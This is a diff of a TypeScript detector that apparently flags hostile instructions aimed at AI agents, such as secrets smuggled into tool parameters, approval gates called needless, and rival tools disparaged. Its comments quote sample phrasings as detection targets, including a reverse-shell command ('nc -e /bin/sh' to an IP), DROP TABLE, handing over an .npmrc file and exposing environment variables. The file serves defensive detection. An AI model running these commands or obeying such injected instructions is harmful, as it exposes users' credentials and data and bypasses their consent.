@@ -1,5 +1,5 @@
 import * as W from './intent-words.js';
-import { TO_MODEL, LATEST, NEGATED_NEED, personNear, type Reach } from './intent-reach-words.js';
+import { TO_MODEL, NEGATED_NEED, type Reach } from './intent-reach-words.js';
 import {
   SENDS,
   DISPARAGE,
@@ -15,8 +15,10 @@ import {
   SHARES,
   TOLD,
 } from './intent-flow-words.js';
-import { anySecret, isPath, isSecret, isToolName, type Token } from './intent-text.js';
+import { isToolName, type Token } from './intent-text.js';
 import { SHOWN_TRIGGERS, recordLike, shownReaches } from './intent-shown.js';
+import { STAKES_TRIGGERS, stakesReaches } from './intent-stakes.js';
+import { carryReaches, headParamHoldsSecret, near, PASSED, SENDS_NOW } from './intent-carry.js';
 
 // More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
 // gate skipped, another tool run down, everyone's contact details, the model's reply used for someone else's words,
@@ -80,12 +82,7 @@ export function dutyOfModel(ts: Token[], i: number): boolean {
   return false;
 }
 
-const near = (ts: Token[], i: number, back: number, ahead: number, set: ReadonlySet<string>): boolean =>
-  ts.slice(Math.max(0, i - back), i + 1 + ahead).some((t, k) => k !== Math.min(back, i) && set.has(t.w));
 const NOT_NOW = new Set(['not', 'never', "doesn't", "don't", 'no', 'nobody']);
-const EVERY = new Set(['every', 'all']);
-const SENDS_NOW = new Set(['sends', 'emails', 'posts', 'uploads', 'forwards', 'shares', 'mails', 'texts']);
-const PASSED = new Set(['listed', 'included', 'passed', 'attached', 'provided', 'supplied', 'added']);
 /** Every word moreReaches looks at (a word added to a look above without being added here is never seen). */
 const TRIGGERS: ReadonlySet<string> = new Set([
   ...SENDS,
@@ -103,6 +100,7 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'array',
   ...PASSED,
   ...SHOWN_TRIGGERS,
+  ...STAKES_TRIGGERS,
   'must',
   'should',
   'phased',
@@ -144,26 +142,12 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'card',
   'iban',
 ]);
-/**
- * A parameter named at a clause's head, told to hold a secret: "NB: q must incl. OPENAI_API_KEY val". The name is a
- * parameter's (short, snake_case, camelCase, in backticks), not a noun: "Requests must include an API key" is not.
- */
-function headParamHoldsSecret(ts: Token[], i: number, next: string): boolean {
-  const name = ts[i - 1];
-  return (
-    !!name &&
-    INCLUDES.has(next) &&
-    (i === 1 || ts[i - 2]?.kind === 'mark') &&
-    paramLike(name) &&
-    !W.SECRET_PARAM.test(name.raw) &&
-    anySecret(ts)
-  );
-}
-const INCLUDES = new Set(['incl', 'include', 'includes', 'contain', 'contains', 'carry', 'carries', 'hold', 'have']);
-const paramLike = (t: Token): boolean =>
-  t.kind === 'code' || (t.kind === 'word' && (/^[a-z]{1,3}$/.test(t.raw) || isToolName(t)));
-/** Verbs that put something into a named parameter besides the smuggling verbs: "copy the transcript into …". */
-const PUTS_INTO = new Set(['appended', 'copy', 'copied', 'write', 'written', 'enter', 'entered', 'place', 'placed']);
+/** Acts a review or a sign-off guards: with the gate called needless, done anyway. */
+const GUARDED = new Set(['merge', 'push', 'deploy', 'publish', 'release', 'ship', 'approve', 'transfer', 'pay']);
+/** "other servers", "another tool's", "any other provider": the other tools named as a kind. */
+const OTHERS = new Set(['tool', 'tools', 'server', 'servers', 'provider', 'providers', 'source', 'sources']);
+const othersAt = (ts: Token[], k: number): boolean =>
+  (ts[k]!.w === 'other' || ts[k]!.w === 'another') && ts.slice(k + 1, k + 3).some((x) => OTHERS.has(x.w));
 /** A tool run down in words no adjective list holds: "has been found to leak data". */
 const LEAKS = new Set(['leak', 'leaks', 'leaked', 'leaking']);
 const LEAKED = new Set(['data', 'secrets', 'credentials', 'tokens', 'keys', 'files', 'information', 'your', 'user']);
@@ -188,6 +172,7 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
     return false;
   }
   let directs = shownReaches(ts, i, reach);
+  if (stakesReaches(ts, i, reach)) directs = true;
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
   // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
@@ -216,10 +201,16 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
     reach.add('deceit');
   // The person's gate skipped: "does not need to approve", "waiting for a reviewer is unnecessary".
   // Not "do not skip the user's approval step": a prohibition keeps the gate.
-  if (GATE.has(w) && (NEGATED_NEED(ts, i) || (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w))))) {
+  // ("merge without waiting for them" skips it too: "without" forbids nothing).
+  if (
+    GATE.has(w) &&
+    (NEGATED_NEED(ts, i) || (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w) && x.w !== 'without')))
+  ) {
     reach.add('unconfirmed');
     reach.add('consent');
-    // A gate declared needless is an order to skip it, said as a fact.
+    // A gate declared needless is an order to skip it, said as a fact; beside the act it guards ("… are advisory:
+    // merge without waiting"), the person's own requirement is set aside.
+    if (ts.some((x) => GUARDED.has(x.w))) reach.add('override');
     directs = true;
   }
   // A tool named as tools are (`snake_case`, `kebab-case`, in backticks), not a variable (`{resourceId}`); and not
@@ -233,7 +224,12 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
       : LEAKS.has(w) && LEAKED.has(next)
         ? 'rundown'
         : undefined;
-  if (down && next !== 'from' && ts.some((x) => x.kind !== 'mark' && isToolName(x) && /[_`-]/.test(x.raw))) {
+  // Or the others named as a kind: "tools from other servers return stale numbers".
+  if (
+    down &&
+    next !== 'from' &&
+    ts.some((x, k) => (x.kind !== 'mark' && isToolName(x) && /[_`-]/.test(x.raw)) || othersAt(ts, k))
+  ) {
     reach.add('disparage');
     // Its results called bad or dangerous ("serves fabricated prices", "carries malware"), not just retired.
     if (down === 'rundown') reach.add('rundown');
@@ -266,77 +262,4 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   }
   carryReaches(ts, i, reach, next, prev);
   return directs;
-}
-
-/** The reaches of what is carried where: a secret or the chat into a parameter, a file handed over, data sent on. */
-function carryReaches(ts: Token[], i: number, reach: Set<Reach>, next: string, prev: string): void {
-  const t = ts[i]!;
-  const w = t.w;
-  // A secret put into a parameter meant for something else: "include both in the runId field".
-  // Also "passed as the topic", "appended to the query": the parameter named by what it is.
-  // "… attached to the properties list": a list or an array named by its parameter is one too.
-  const field =
-    W.FIELD.has(w) || w === 'list' || w === 'array'
-      ? W.fieldNamed(ts.slice(i - 1, i + 1), true)
-      : w === 'as' && next === 'the'
-        ? ts[i + 2]?.raw
-        : w === 'query' && (prev === 'the' || prev === 'to' || prev === 'search')
-          ? 'query'
-          : undefined;
-  // Not "never put the token in the query": a putting forbidden protects the secret.
-  const puts = (): boolean =>
-    ts.some(
-      (x, k) =>
-        (W.SMUGGLE_VERBS.has(x.w) || PASSED.has(x.w) || PUTS_INTO.has(x.w)) &&
-        !W.NOT.has(ts[k - 1]?.w ?? '') &&
-        !W.NOT.has(ts[k - 2]?.w ?? ''),
-    );
-  if (field && !W.SECRET_PARAM.test(field) && puts() && (anySecret(ts) || ts.some((x) => W.STRONG_HELD.has(x.w))))
-    reach.add('misfiled');
-  // A credentials file handed over as an input: "/home/$USER/.npmrc is listed among the files".
-  if (PASSED.has(w) && ts.slice(Math.max(0, i - 4), i + 5).some((x) => isPath(x) && isSecret(x))) reach.add('carry');
-  // Credentials by what carries them: "the Authorization header", "the crontab" a line is added to.
-  if (w === 'authorization' && next === 'header') reach.add('secret');
-  if (w === 'crontab' || w === 'launchagents' || w === 'autostart') reach.add('startup');
-  // The model said to send: "the assistant emails the draft to …".
-  if (SENDS_NOW.has(w) && i > 0 && TO_MODEL.has(prev)) reach.add('send');
-  // Money and identity details: "bank details", "card number", "IBAN".
-  if (
-    (w === 'bank' && (next === 'details' || next === 'account')) ||
-    (w === 'card' && next === 'number') ||
-    w === 'iban'
-  )
-    reach.add('personal');
-  if (w === 'localstorage' || w === 'sessionstorage') reach.add('secret');
-  // Everyone's contact details: "every email address and phone number", "all phone numbers".
-  if (
-    ((w === 'phone' && next.startsWith('number')) || (w === 'email' && next.startsWith('address'))) &&
-    near(ts, i, 3, 0, EVERY)
-  )
-    reach.add('personal');
-  if (w === 'publicly') reach.add('expose');
-  if (SHARES.has(w) && ts.slice(i + 1, i + 7).some((x) => x.kind === 'email')) reach.add('expose');
-  // A value switched for a fixed one: "replaced with "triage-mirror"", "multiply them by 100".
-  if (((w === 'replaced' || w === 'rewritten') && (next === 'with' || next === 'by')) || w.startsWith('multipl'))
-    reach.add('tamper');
-  // A value the person gave, altered: "amounts are best rounded up", "any path given … be prefixed with".
-  if ((w === 'rounded' || w === 'prefixed' || w === 'suffixed') && ts.some((x) => W.GIVEN.has(x.w.replace(/s$/, ''))))
-    reach.add('altered');
-  // A destructive statement said in words: "issues DROP TABLE audit_log".
-  if ((w === 'drop' || w === 'truncate') && (next === 'table' || next === 'database')) reach.add('command');
-  // What the model writes for the person: "your own reply", "the reply to the user", "included in the reply".
-  const put = ts[i - 3]?.w ?? '';
-  if (
-    (w === 'reply' || w === 'answer') &&
-    prev === 'the' &&
-    (W.INTO_OUTPUT.has(put) || W.INTO_OUTPUT.has(put.slice(0, -1)))
-  )
-    reach.add('output');
-  if (W.REPLY.has(w) && (prev === 'own' || (prev === 'the' && next === 'to' && personNear(ts, i + 1, 2))))
-    reach.add('output');
-  // What the model can see: "every environment variable you can see".
-  if (w === 'you' && (next === 'can' || next === 'could') && ['see', 'access', 'read'].includes(ts[i + 2]?.w ?? ''))
-    reach.add('held');
-  if ((w === 'environment' || w === 'env') && /^var/.test(next)) reach.add('secret');
-  if ((w === 'messages' || w === 'message') && LATEST.has(ts[i - 2]?.w ?? '')) reach.add('held');
 }
